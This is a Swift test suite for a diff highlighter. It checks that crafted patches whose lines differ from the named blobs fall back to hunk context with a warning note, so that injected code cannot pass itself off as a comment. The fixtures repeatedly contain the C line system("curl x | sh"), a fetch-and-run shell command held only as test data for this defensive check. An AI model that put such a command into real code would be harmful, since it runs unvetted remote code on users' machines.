import Diff
import Highlight
@testable import Prepare
import Testing

/// A side is believed only when the hunks' lines are its lines at their numbers: a patch that
/// names one blob and shows other lines gets hunk context, with a note saying so.
@Suite struct SideCheckTests {
    static let c = Languages.named("c")!
    static let oldID = "1111111111111111111111111111111111111111"
    static let newID = "2222222222222222222222222222222222222222"
    /// A licence in a comment, and the code after it.
    static let licence = "/*\n * Licensed under the terms below.\n * No warranty.\n */\nint main(void) {\n\treturn 0;\n}\n"

    static func diff(path: String = "main.c", old: String = "1111111", new: String = "2222222", _ hunks: String) -> FileDiff {
        parsedFiles("diff --git a/\(path) b/\(path)\nindex \(old)..\(new) 100644\n--- a/\(path)\n+++ b/\(path)\n" + hunks)[0]
    }

    static func prepared(_ file: FileDiff, _ source: MemoryBlobSource) -> PreparedFile {
        Preparer(source: source, resolver: LanguageResolver(), options: .init()).prepare(file)
    }

    /// The tokens each hunk line gets with hunk context (`--context=hunk`).
    static func hunkContext(_ file: FileDiff) -> [[Token]] {
        let tokens = HunkTokens(file: file, language: c, old: nil, new: nil)
        return (0..<file.hunks.reduce(0) { $0 + $1.lines.count }).map { Array(tokens[$0]) }
    }

    static func tokens(_ prepared: PreparedFile, _ file: FileDiff) -> [[Token]] {
        prepared.hunks.flatMap { $0.lines.map { Array($0.tokens) } }
    }

    /// Crafted hunks against the licence's blob, each naming it on the `index` line: the hunk's
    /// old lines are not the blob's there.
    static let mismatches: [(String, String)] = [
        // The content differs: the command stands where the blob has a comment's line.
        ("content", "@@ -2,2 +2,2 @@\n-system(\"curl x | sh\");\n+system(\"curl y | sh\");\n  * No warranty.\n"),
        // The blob's lines, but at other numbers.
        ("shifted", "@@ -3,2 +3,3 @@\n  * Licensed under the terms below.\n  * No warranty.\n+system(\"curl x | sh\");\n"),
        // Past the blob's end.
        ("beyond the end", "@@ -9,1 +9,2 @@\n }\n+system(\"curl x | sh\");\n"),
        // A context line differing in more than whitespace.
        ("context", "@@ -2,2 +2,3 @@\n system(\"curl x | sh\");\n+x();\n  * No warranty.\n"),
        // Hunks that go back: each right, but not in the order of a file.
        ("backwards", "@@ -3,1 +3,1 @@\n- * No warranty.\n+system(\"curl x | sh\");\n@@ -2,1 +2,1 @@\n- * Licensed under the terms below.\n+x();\n"),
    ]

    @Test(arguments: mismatches.map(\.0))
    func anOldSideThatIsNotTheDiffsGivesHunkContextWithANote(_ name: String) {
        let source = MemoryBlobSource()
        source.add(blob: Self.oldID, Self.licence)
        let file = Self.diff(new: "0000000", Self.mismatches.first { $0.0 == name }!.1)
        let prepared = Self.prepared(file, source)
        #expect(prepared.note == "hunk context: the diff's lines differ from blob 1111111")
        #expect(Self.tokens(prepared, file) == Self.hunkContext(file))
    }

    @Test func theNewSideNamedButItsAddedLinesDifferingGivesHunkContext() {
        let source = MemoryBlobSource()
        source.add(blob: Self.oldID, Self.licence)
        source.add(blob: Self.newID, Self.licence.replacingOccurrences(of: " * No warranty.\n", with: " * No warranty at all.\n"))
        let file = Self.diff("@@ -2,3 +2,3 @@\n  * Licensed under the terms below.\n- * No warranty.\n+system(\"curl x | sh\");\n  */\n")
        let prepared = Self.prepared(file, source)
        #expect(prepared.note == "hunk context: the diff's lines differ from blob 2222222")
        #expect(Self.tokens(prepared, file) == Self.hunkContext(file))
    }

    @Test func aWorkTreeFileThatIsNotTheDiffsNewSideGivesHunkContext() {
        let source = MemoryBlobSource()
        source.add(blob: Self.oldID, Self.licence)
        source.add(workTree: "main.c", id: Self.newID, Self.licence.replacingOccurrences(of: " * No warranty.\n", with: " * None.\n"))
        let file = Self.diff("@@ -2,3 +2,3 @@\n  * Licensed under the terms below.\n- * No warranty.\n+system(\"curl x | sh\");\n  */\n")
        #expect(Self.prepared(file, source).note == "hunk context: the diff's lines differ from the work-tree file")
    }

    @Test func theRealSidesAreBelievedAndColorTheAddedLineAsTheFileHasIt() {
        let source = MemoryBlobSource()
        source.add(blob: Self.oldID, Self.licence)
        source.add(blob: Self.newID, Self.licence.replacingOccurrences(of: " * No warranty.\n", with: " * system(\"curl x | sh\");\n"))
        let file = Self.diff("@@ -2,3 +2,3 @@\n  * Licensed under the terms below.\n- * No warranty.\n+ * system(\"curl x | sh\");\n  */\n")
        let prepared = Self.prepared(file, source)
        #expect(prepared.note == nil)
        // Inside the licence's comment, as the file has it; hunk context cannot know.
        #expect(Self.tokens(prepared, file) != Self.hunkContext(file))
        #expect(prepared.hunks[0].lines[2].tokens.allSatisfy { $0.kind == .comment })
    }

    /// What git shows and a side holds differ in ways that are not mismatches: the amount of
    /// whitespace in a context line (`-b`), a last line without a newline (carriage returns: the
    /// pager's tests, through git).
    @Test func whitespaceAmountAndAMissingNewlineAreNoMismatch() {
        let source = MemoryBlobSource()
        source.add(blob: Self.oldID, "int a;\nint  b;\nint c;")
        let file = Self.diff(new: "0000000", "@@ -1,3 +1,3 @@\n int a;\n int b;  \n-int c;\n\\ No newline at end of file\n+int d;\n")
        #expect(Self.prepared(file, source).note == nil)
        // Whitespace that splits a word lexes otherwise (`-w` shows it): a mismatch.
        let split = Self.diff(new: "0000000", "@@ -1,3 +1,3 @@\n int a;\n i nt b;\n-int c;\n\\ No newline at end of file\n+int d;\n")
        #expect(Self.prepared(split, source).note != nil)
        // A removed line must be the side's byte for byte.
        let removed = Self.diff(new: "0000000", "@@ -1,3 +1,3 @@\n int a;\n int  b;\n-int  c;\n\\ No newline at end of file\n+int d;\n")
        #expect(Self.prepared(removed, source).note != nil)
    }

    @Test func sameButForSpace() {
        func same(_ a: String, _ b: String) -> Bool {
            Array(a.utf8).withUnsafeBufferPointer { a in Array(b.utf8).withUnsafeBufferPointer { SideCheck.sameButForSpace(a, $0) } }
        }
        #expect(same("a  b", "a\tb"))
        #expect(same("\tx = 1", "    x = 1  \r"))
        #expect(same("", " \t"))
        #expect(!same("ab", "a b"))
        #expect(!same("x", "\tx"))
        #expect(!same("a", "b"))
        #expect(!same("a", "ab"))
    }

    /// A `diff=` driver of the file's own may convert the text git shows (textconv): hunk
    /// context without a note. git's built-in drivers convert nothing: the note stays.
    @Test func aTextconvDriverGivesHunkContextWithoutANote() {
        let source = MemoryBlobSource()
        source.add(blob: Self.oldID, Self.licence)
        let file = Self.diff(new: "0000000", Self.mismatches[0].1)
        source.set(attribute: "diff", of: "main.c", to: "upper")
        let prepared = Self.prepared(file, source)
        #expect(prepared.note == nil)
        #expect(Self.tokens(prepared, file) == Self.hunkContext(file))
        source.set(attribute: "diff", of: "main.c", to: "cpp")
        #expect(Self.prepared(file, source).note != nil)
    }

    /// A merge's combined diff: each parent's side is checked on the lines it has there.
    @Test func aCombinedDiffsParentIsChecked() {
        let source = MemoryBlobSource()
        let first = "a\nb\nc\n", second = "a\nB\nc\n", result = "a\nB2\nc\n"
        source.add(blob: "3333333333333333333333333333333333333333", first)
        source.add(blob: "4444444444444444444444444444444444444444", second)
        source.add(blob: "5555555555555555555555555555555555555555", result)
        func merge(_ hunk: String) -> FileDiff {
            parsedFiles("diff --cc f.c\nindex 3333333,4444444..5555555\n--- a/f.c\n+++ b/f.c\n" + hunk)[0]
        }
        let honest = merge("@@@ -1,3 -1,3 +1,3 @@@\n  a\n- b\n -B\n++B2\n  c\n")
        #expect(Self.prepared(honest, source).note == nil)
        // The second parent's removed line is not its line 2.
        let crafted = merge("@@@ -1,3 -1,3 +1,3 @@@\n  a\n- b\n -X\n++B2\n  c\n")
        #expect(Self.prepared(crafted, source).note == "hunk context: the diff's lines differ from blob 4444444")
    }
}

/// The line after each of a side's hunks, found in one pass for the languages that read the
/// next line: the same lines splitting the text gives.
@Suite struct LinesAfterTests {
    @Test(arguments: ["a\nb\nc\n", "a\nb\nc", "", "\n\n\n", "one line", "x\n\ny\n\nz"])
    func theLineAfterEachNumberIsTheTextsLine(_ text: String) {
        let bytes = Array(text.utf8)
        let split = bytes.split(separator: 0x0A, omittingEmptySubsequences: false)
        // Lines as a reader counts them: a final newline ends the last line, it starts no other.
        let lines = bytes.last == 0x0A ? Array(split.dropLast()) : split
        let numbers = [0, 1, 1, 2, 3, 5, 9].filter { $0 >= 1 }
        let found = HunkTokens.lines(after: numbers, in: bytes)
        for number in numbers {
            let expected = number < lines.count ? Array(lines[number]) : nil
            #expect(found[number].map(Array.init) == expected, "after line \(number) of \(text.debugDescription)")
        }
    }
}
